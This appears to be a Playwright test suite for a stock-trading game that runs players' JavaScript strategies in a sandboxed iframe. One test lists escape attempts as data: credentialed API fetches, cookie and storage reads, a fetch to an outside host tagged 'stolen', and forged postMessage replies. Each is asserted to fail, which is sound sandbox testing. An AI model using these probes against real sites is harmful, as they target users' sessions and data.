import type { Page } from 'playwright-core';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { register } from './accounts.ts';
import { newVisitorEachTest } from './browser.ts';
import { endMonth, type JourneyHost, ownHost } from './journey-host.ts';
import { findings } from './screen-findings.ts';

let host: JourneyHost;
let page: Page;
ownHost((started) => {
  host = started;
});
newVisitorEachTest({}, (arrived) => {
  page = arrived.page;
});

beforeAll(() => endMonth(host));

const run = () => page.getByRole('button', { name: 'Run', exact: true }).click();
const code = () => page.getByLabel('JavaScript module');
const failure = () => page.getByRole('status').getByText(/^The code failed/);

/** Each day's values and the trades, to the cent. */
async function outcome(): Promise<string[]> {
  const trades = page.getByRole('region', { name: 'Trades' }).first();
  await trades.waitFor();
  await page.getByRole('button', { name: 'As a table' }).click();
  const days = page.getByRole('region', { name: 'Value by day' }).first();
  return [await days.innerText(), await trades.innerText()];
}

/** Runs code whose first tick fails with a report of `attempts`, each an expression. @returns how each ended */
async function tried(attempts: Readonly<Record<string, string>>): Promise<Record<string, string>> {
  const tries = Object.entries(attempts).map(
    ([name, expression]) =>
      `await (async () => ${expression})().then(() => 'reached', (error) => error.name).then((end) => ends.push('${name}=' + end));`,
  );
  await code().fill(`const ends = [];\n${tries.join('\n')}\nexport default { onTick() { throw ends.join(' '); } };`);
  await run();
  const [, told = ''] = /\): (.*)$/.exec(await failure().innerText()) ?? [];
  return Object.fromEntries(told.split(' ').map((each) => each.split('=')));
}

describe('code that a player wrote', () => {
  beforeEach(async () => {
    await register(page, host.url, { first: 'Cora', last: 'Coder' });
    await page.goto(`${host.url}/bench`);
    await page.getByRole('radio', { name: 'Write code' }).check();
  });

  test('has the outcome of the form with the same rules, to the cent, and is kept', async () => {
    // In a few days of 24 companies one falls by a hundredth, whatever the month.
    await page.getByLabel('Companies').selectOption({ label: 'Elite plan: 24 companies' });
    await code().fill((await code().inputValue()).replace('(dayAgo * 4) / 100', 'dayAgo / 100'));
    await run();
    const coded = await outcome();
    expect(coded.at(-1)).toContain('Bought');
    await page.getByRole('radio', { name: 'Choose rules' }).check();
    await page.getByLabel('Percent', { exact: true }).first().fill('1');
    await run();
    await page.getByText(/^You have tried 2 runs here/).waitFor();
    expect(await outcome()).toEqual(coded);
    await page.getByRole('radio', { name: 'Write code' }).check();
    expect(await findings(page)).toEqual([]);

    await code().fill('export default { onTick: () => [] };');
    await page.reload();
    await page.getByRole('radio', { name: 'Write code' }).check();
    expect(await code().inputValue()).toBe('export default { onTick: () => [] };');
    await page.getByRole('button', { name: 'Example' }).click();
    expect(await code().inputValue()).toContain('Buys what fell 4 %');
  });

  test('reaches neither the session, the API, the page nor storage', async () => {
    const { origin } = new URL(host.url);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    const script = await page.evaluate(() => document.querySelector<HTMLScriptElement>('script[type=module]')?.src);
    const ends = await tried({
      fetch: `fetch('${origin}/api/portfolio')`,
      cookies: `fetch('${origin}/api/portfolio', { credentials: 'include', mode: 'no-cors' })`,
      socket: `new Promise((ok, no) => { const it = new WebSocket('${origin.replace('http', 'ws')}/ws'); it.onopen = ok; it.onerror = () => no({ name: 'closed' }); })`,
      cookie: 'document.cookie',
      parent: 'parent.document',
      storage: 'localStorage.length',
      database: `new Promise((ok, no) => { const it = indexedDB.open('x'); it.onsuccess = ok; it.onerror = () => no(it.error); })`,
      caches: 'caches.open("x")',
      script: `import('${script}')`,
      eval: 'eval("1")',
      worker: `new Worker('${script}')`,
      outside: `fetch('https://example.com/?stolen')`,
    });
    expect(ends).toEqual({
      ...{ fetch: 'TypeError', cookies: 'TypeError', socket: 'closed', outside: 'TypeError' },
      ...{ cookie: 'ReferenceError', parent: 'ReferenceError', storage: 'ReferenceError' },
      ...{
        database: 'SecurityError',
        caches: expect.stringMatching(/^(Reference|Security)Error$/),
        script: 'TypeError',
        eval: 'EvalError',
        worker: 'SecurityError',
      },
    });
    expect(asked.filter((url) => /portfolio|example\.com|\/ws/.test(url))).toEqual([]);
  });

  test('that never ends leaves the page as it was, and ends when it is stopped', async () => {
    await code().fill('export default { onTick() { for (;;); } };');
    await run();
    await page.getByRole('progressbar').waitFor();
    await page.getByRole('radio', { name: 'Choose rules' }).check();
    await page.getByRole('button', { name: 'Hold', exact: true }).click();
    expect(page.frames()).toHaveLength(2);
    await page.getByRole('button', { name: 'Stop' }).click();
    expect(page.frames()).toHaveLength(1);
    await run();
    await outcome();
  });

  test('that takes too long for a day is ended', async () => {
    await page.clock.install();
    await code().fill(
      'let day; export default { onTick({ timeMs }) { day ??= Math.floor(timeMs / 864e5); while (timeMs >= (day + 1) * 864e5); } };',
    );
    await run();
    // The second day has begun.
    await page.locator('progress[value="1"]').waitFor();
    await page.clock.runFor(20_000);
    expect(await failure().innerText()).toMatch(/: it took more than 20 seconds for a day of the market$/);
    expect(page.frames()).toHaveLength(1);
  });

  test.each<[string, RegExp]>([
    [
      'export default { onTick(at) { if (at.tick % 100 === 0) at.foo(); } };',
      /at tick \d+00 \(.*\): TypeError: at\.foo is not a function$/,
    ],
    [
      'export default { onTick: () => 7 };',
      /at tick \d+ \(.*\): TypeError: onTick returned neither a list of orders nor nothing$/,
    ],
    ['export default { async onTick() {} };', /onTick returned neither a list of orders nor nothing$/],
    ['export const onTick = () => [];', /^The code failed: TypeError: it does not export/],
    ['export default {', /^The code failed: SyntaxError/],
  ])('fails with a sentence: %s', async (text, sentence) => {
    await code().fill(text);
    await run();
    expect(await failure().innerText()).toMatch(sentence);
  });

  test('that forges answers is told off', async () => {
    await code().fill(
      'const { postMessage } = MessagePort.prototype; MessagePort.prototype.postMessage = function () { postMessage.call(this, { result: { trades: [] } }); }; export default { onTick() {} };',
    );
    await run();
    expect(await failure().innerText()).toBe('The code failed: it answered with something else than orders');
  });
});

test('the frame is framed by its own site alone, and nothing else of it may be', async () => {
  const policy = async (path: string) => (await page.request.get(host.url + path)).headers()['content-security-policy'];
  expect(await policy('/strategy-frame.html')).toMatch(
    /^sandbox allow-scripts; default-src 'none';.* connect-src 'none';/,
  );
  expect(await policy('/strategy-frame.html')).toMatch(/frame-ancestors 'self'$/);
  expect(await policy('/bench')).toMatch(/frame-src 'self';.* frame-ancestors 'none'$/);
});
